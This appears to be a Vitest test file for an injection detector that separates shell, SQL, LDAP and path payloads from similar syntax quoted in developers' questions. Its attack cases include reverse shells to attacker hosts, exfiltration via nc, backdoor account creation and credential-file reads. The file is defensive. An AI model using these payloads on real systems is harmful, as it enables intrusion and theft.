import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { endsInWords, executableMention, fencedBlockEnd, inlineCodeSpan, proseAfterCall, proseArguments } from '../../src/security/quoted-code.js';

// Code quoted inside prose (a developer's question, a markdown comment) versus the same syntax
// breaking out of a value. Values written for these tests (not taken from a held-out set).
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;

describe('a command whose arguments are a sentence is quoted, not run', () => {
  it.each([
    'ls -la | wc -l gives the wrong count',
    'top | head shows only the first screen',
    'find . -name x not finding hidden files?',
    'tail -f app.log | grep error stops printing after a while',
    'history | grep docker returns nothing for me',
    'why does | sort -n put ten before nine',
    'journalctl | less is slow 2024',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each([
    '; cat /etc/passwd',
    '| nc attacker.example 4444 -e /bin/sh',
    '& net user backdoor secret123 /add',
    '&& net localgroup administrators eve /add',
    '; ping -c 10 127.0.0.1',
    '| id',
    'x; wget http://evil.example/a.sh -O /tmp/a.sh',
    'cat /etc/passwd | nc evil.example 80',
    '| ls -la /home',
    'ls -la | grep .txt',
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('reads plain words, not switches, paths or quoted text', () => {
    const s = '| grep node shows grep itself';
    expect(proseArguments(s, s.indexOf('grep') + 4)).toBe(true);
    const t = '| grep "a b c" /etc/passwd';
    expect(proseArguments(t, t.indexOf('grep') + 4)).toBe(false);
    const u = '| net localgroup administrators eve /add';
    expect(proseArguments(u, u.indexOf('net') + 3)).toBe(false);
    const w = '| cat the file; id';
    expect(proseArguments(w, w.indexOf('cat') + 3)).toBe(true);
  });
  it('a later separator is still read after a quoted command', () => {
    expect(score('ps | grep node shows grep itself; cat /etc/shadow')).toBeGreaterThanOrEqual(5);
  });
});

describe('markdown code fences and inline code spans delimit quoted code', () => {
  it.each([
    'Steps:\n\n```sh\nls -la\nrm -rf build\n```\n\nthen it works',
    'Try `ls -la` to see the hidden files.',
    'I ran `cat notes.txt` and `wc -l notes.txt` but got nothing',
    '```js\nconst a = 1;\nconsole.log(a);\n```\nthanks',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each(['`id`', ';`whoami`', 'a`id`', 'x=`cat /etc/passwd`', '$(`id`)', '```id```', 'hello\n``` ; id', 'name `id`', '```\nwhoami\n```'])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('finds the fence end and the span close', () => {
    const f = 'a\n```bash\nls\n```\nb';
    expect(fencedBlockEnd(f, f.indexOf('`'))).toBe(f.lastIndexOf('\n'));
    expect(fencedBlockEnd('x```bash\nls\n```', 1)).toBe(-1);
    expect(fencedBlockEnd('```bash\nls', 0)).toBe(-1);
    const s = 'run `ls -la` to list';
    expect(inlineCodeSpan(s, s.indexOf('`'))).toBe(s.lastIndexOf('`'));
    expect(inlineCodeSpan(';`id`', 1)).toBe(-1);
  });
});

describe('cmd.exe named in a sentence is not invoked', () => {
  it.each(['cmd.exe keeps closing right after it opens', 'powershell.exe uses too much memory on startup', 'cmd.exe how to escape a percent sign'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each(['cmd.exe /c whoami', 'x & cmd.exe /c dir', 'powershell.exe -nop -w hidden -c iex(1)', 'c:\\windows\\system32\\cmd.exe', '; cmd.exe', 'cmd.exe&dir'])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('a switch, a separator or the end is an invocation', () => {
    expect(executableMention('cmd.exe /c dir', 0, 7)).toBe(false);
    expect(executableMention('cmd.exe', 0, 7)).toBe(false);
    expect(executableMention('cmd.exe how to', 0, 7)).toBe(true);
  });
});

describe('an LDAP filter quoted in a sentence', () => {
  it.each(['how do I write the filter (&(objectclass=person)(mail=ana@example.org)) in python', 'the filter (|(cn=ana)(cn=bob)) returns nobody', 'use (!(status=disabled)).'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each(['find (|(uid=*)(cn=*)) here', '(&(objectclass=user)(samaccountname=ana))', 'x)(|(mail=*))', 'admin)(&(cn=a)(cn=b))', 'filter (&(cn=a)(cn=b)', 'name=(|(uid=admin)(uid=root))'])(
    'still an attack: %s',
    (v) => {
      expect(score(v)).toBeGreaterThanOrEqual(5);
    },
  );
});

describe('a file path typed as a value: own files versus targets', () => {
  it.each([
    '/home/ana/backup.sql',
    '/home/ana/scripts/deploy.sh',
    '/Users/ana/project/docker-compose.yml',
    '/home/ana/app/.env.example',
    '/srv/app/.env.sample',
    'e:\\music\\ana\\setup.exe',
    'd:\\work\\reports\\q3.xml',
    '\\\\nas\\share\\ana\\.env.dist',
  ])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
  it.each([
    '/home/apache/conf/httpd.conf',
    '/home/ana/.ssh/id_rsa',
    '/home/ana/.bashrc',
    '/home/ana/.env',
    '/.env.production',
    '/app/.env.local',
    '../../home/ana/backup.sql',
    '/etc/passwd',
    '/var/www/html/config.sql',
    'c:\\users\\ana\\run.bat',
    'd:\\boot.ini',
    'd:\\inetpub\\wwwroot\\web.config',
    'd:\\system32\\inetsrv\\metabase.xml',
    'e:\\setup.exe',
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('SQL, paths and shell markers named in a question', () => {
  it.each([
    'SELECT * FROM orders WHERE total > 100 gives duplicate rows',
    'delete from sessions where expires < now() never seems finished?',
    'DROP TABLE IF EXISTS logs; fails with permission denied',
    'SELECT name FROM users; returns nothing',
    "select * from orders where status='open' returns duplicates",
    'why is `ls | wc -l` different from `ls -1 | wc -l`',
    'ping 192.0.2.1 works but ping example.com does not',
    "find / -name '*.conf' 2>/dev/null takes forever",
    "python os.system('ls') returns 0 instead of output",
    "php exec('whoami') returns empty string",
    "require('child_process').exec returns undefined",
    'ssh -i ~/keys/dev.pem user@host asks for a password',
    'rsync -e ssh copies nothing',
    'D:\\tools\\app\\setup.exe',
    'C:\\Program Files\\Git\\bin\\git.exe is not recognized',
    'my keys live in ~/.ssh/ but git ignores them',
    '../ in an import path breaks the build',
  ])('clean (below the default minScore 5: a mention scores a notice at most): %s', (v) => {
    expect(score(v)).toBeLessThan(5);
  });
  it.each([
    '1; drop table users',
    "1' union select password from users where id = 1 --",
    "x' and 1=1 or 'a'='a",
    "1' union select name from users u--",
    'select * from users where id = 1 or 1=1',
    '; ping -c 3 192.0.2.1 and more',
    'name `id`',
    "system('id')",
    "; system('cat /etc/passwd') #",
    "x'; exec('rm -rf /') --",
    "<?php system('id'); ?>",
    'cat /etc/passwd',
    '; sh -i',
    'x; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'nc -e /bin/sh 192.0.2.1 4444',
    'c:\\windows\\win.ini',
    'c:\\program files\\app\\app.exe',
    '/home/ana/.ssh/id_rsa',
    '../',
    '../../etc/passwd',
  ])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});

describe('an exec call, a typed command line or parent segments followed by a sentence', () => {
  it.each(['../../ vs ./ in node require', '../../../ is how you go up three folders', "os.popen('ls') output is empty", 'tail -n 100 /tmp/x.log shows nothing'])('not flagged: %s', (v) => {
    expect(score(v)).toBeLessThan(5);
  });
  it.each(['../../', '../../etc/passwd is readable', 'q ../../ /etc/passwd', "system('id')", "; exec('id') and more", '; ping -c 3 192.0.2.1 and more'])('still an attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('endsInWords and proseAfterCall read bounded windows', () => {
    expect(endsInWords('x -y takes forever', 2)).toBe(true);
    expect(endsInWords('x -y /etc/passwd', 2)).toBe(false);
    expect(endsInWords('x -y a b', 2)).toBe(false);
    const call = "system('ls') returns nothing";
    expect(proseAfterCall(call, call.indexOf('('))).toBe(true);
    expect(proseAfterCall("system('ls'); id", 6)).toBe(false);
    expect(proseAfterCall(`system(${'a'.repeat(200)}) returns nothing`, 6)).toBe(false);
  });
});
